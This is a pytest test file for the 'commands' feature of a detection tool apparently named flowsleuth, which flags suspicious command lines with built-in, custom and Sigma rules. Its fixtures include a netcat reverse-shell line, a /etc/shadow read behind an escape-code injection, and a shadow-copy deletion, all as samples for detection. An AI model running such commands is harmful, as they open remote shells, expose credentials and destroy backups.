"""``flowsleuth commands``: a table file and a workspace, rules of one's own, Sigma, formats, and what is refused."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest

import flowsleuth
from flowsleuth.faces.cli import main
from flowsleuth.workspace import init

OWN = """
- id: own-tool
  title: Our tool
  reason: It should not run.
  techniques: [T1569.002]
  severity: high
  platform: any
  needs: [frobnicate]
  match: ['@prog(frobnicate)']
"""
SIGMA = """
title: Somebody looks around
logsource: {category: process_creation}
detection: {look: {CommandLine|contains: whoami}, condition: look}
level: medium
---
title: Names asked for
logsource: {category: dns_query}
detection: {look: {QueryName: x}, condition: look}
"""
LINES = ("ls -la", "nc -e /bin/sh 192.0.2.7 4444", "whoami /all", "frobnicate --all", "echo \x1b[31m; cat /etc/shadow")


@pytest.fixture
def table(tmp_path: Path) -> Path:
    file = tmp_path / "sudo.csv"
    with file.open("w", newline="") as opened:
        csv.writer(opened).writerows([("Computer", "Command"), *(("web1", line) for line in LINES)])
    return file


@pytest.fixture
def case(tmp_path: Path) -> Path:
    """A workspace with Windows process starts."""
    starts = tmp_path / "starts.jsonl"
    records = [
        {
            "EventID": 4688, "Channel": "Security", "Hostname": "pc7", "@timestamp": f"2024-01-0{day}T10:00:0{second}Z",
            "NewProcessId": "0x10", "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "ProcessId": "0x8",
            "SubjectUserName": "bob", "SubjectDomainName": "CORP", "CommandLine": line,
        }
        for day in (1, 2)
        for second, line in enumerate(("cmd /c dir", "cmd /c whoami /priv", "vssadmin delete shadows /all"))
    ]  # fmt: skip
    starts.write_text("".join(json.dumps(record) + "\n" for record in records))
    folder = init(tmp_path / "case")
    with flowsleuth.open(folder) as ws:
        assert ws.ingest(starts).rows == {"process": 6}
    return folder


def run(capsys, *arguments) -> tuple[int, str, str]:
    code = main(["commands", *map(str, arguments)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_a_table_file(table, capsys):
    code, out, _ = run(capsys, table)
    assert code == 0
    for word in ("reverse-shell-netcat", "T1059.004, T1095", "shadow-read", "who-am-i", "Whoever is at the other end"):
        assert word in out
    assert "\x1b" not in out and "\\x1b[31m" in out
    code, out, _ = run(capsys, table, "--least", "high", "--format", "json")
    assert code == 0 and [(one["row"], one["rule"]) for one in json.loads(out)] == [
        (1, "reverse-shell-netcat"), (4, "shadow-read"),
    ]  # fmt: skip
    code, out, _ = run(capsys, table, "--column", "Command", "--platform", "windows", "--format", "csv")
    assert code == 0 and {row["rule"] for row in csv.DictReader(io.StringIO(out))} == {
        "reverse-shell-netcat",
        "who-am-i",
    }


def test_a_compressed_table_file_is_the_same(table, tmp_path, capsys):
    packed = tmp_path / "whatever"
    packed.write_bytes(gzip.compress(table.read_bytes()))
    plain = run(capsys, table, "--format", "json")
    assert run(capsys, packed, "--format", "json") == plain and plain[0] == 0
    code, _, err = run(capsys, tmp_path / "none.csv")
    assert (code, err) == (2, f"flowsleuth: {tmp_path / 'none.csv'}: cannot be read: no such file\n")


def test_standard_input_and_nothing_found(capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"Command\nls\n")))
    assert run(capsys, "-") == (0, "no command line matches a rule\n", "")


def test_rules_of_ones_own(table, tmp_path, capsys):
    (tmp_path / "own.yaml").write_text(OWN)
    code, out, _ = run(capsys, table, "--rules", tmp_path / "own.yaml", "--least", "high", "--format", "json")
    assert code == 0 and [one["rule"] for one in json.loads(out)] == ["reverse-shell-netcat", "own-tool", "shadow-read"]
    (tmp_path / "own.yaml").write_text(OWN.replace("T1569", "X1569"))
    code, _, err = run(capsys, table, "--rules", tmp_path / "own.yaml")
    assert code == 2 and "own.yaml: own-tool: not ids of ATT&CK techniques" in err


def test_a_workspace_and_its_window(case, capsys):
    code, out, _ = run(capsys, "-w", case, "--format", "json")
    found = json.loads(out)
    assert code == 0 and [one["rule"] for one in found] == ["who-am-i", "backups-destroyed"] * 2
    assert {(one["host"], one["user"], one["pid"]) for one in found} == {("pc7", "bob", 16)}
    code, out, _ = run(capsys, "-w", case, "--range", "2024-01-02", "--least", "high", "--format", "json")
    assert [one["start"][:19] for one in json.loads(out)] == ["2024-01-02T10:00:02"]
    with flowsleuth.open(case) as ws:
        bursts = ws.command_bursts(events=3, within_s=5).table.to_pylist()
        assert [(one["host"], one["user"], one["events"], len(set(one["rows"]))) for one in bursts] == [
            ("pc7", "bob", 3, 3)
        ] * 2


def test_sigma(case, table, tmp_path, capsys):
    pytest.importorskip("sigma.collection")
    (tmp_path / "sigma").mkdir()
    (tmp_path / "sigma" / "look.yml").write_text(SIGMA)
    (tmp_path / "sigma" / "bad.yml").write_text("title: [")
    code, out, err = run(capsys, "-w", case, "--sigma", tmp_path / "sigma")
    assert code == 0 and out.count("Somebody looks around") == 2 and "whoami /priv" in out
    assert "not judged: Names asked for: for another log source: category dns_query" in err
    assert "not read: " in err and "1 of 3 rules judged" in err
    code, out, _ = run(capsys, table, "--sigma", tmp_path / "sigma", "--column", "Command", "--format", "json")
    assert code == 0 and [one["row"] for one in json.loads(out)] == [2]


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("none.csv",), "cannot be read"),
        (("{table}", "--column", "Comand"), "did you mean Command"),
        (("{table}", "--last", "2d"), "a window is for the rows of a workspace"),
        (("-w", "{case}", "--column", "x"), "a column of what file"),
        (("{table}", "--least", "awful"), "awful"),
        (("{table}", "--rules", "none.yaml"), "cannot be read"),
        (("{table}", "--sigma", "none"), "no such file"),
    ],
)
def test_what_is_wrong_is_said(table, case, capsys, arguments, says):
    given = [one.format(table=table, case=case) for one in arguments]
    code, _, err = run(capsys, *given)
    assert code == 2 and says in err
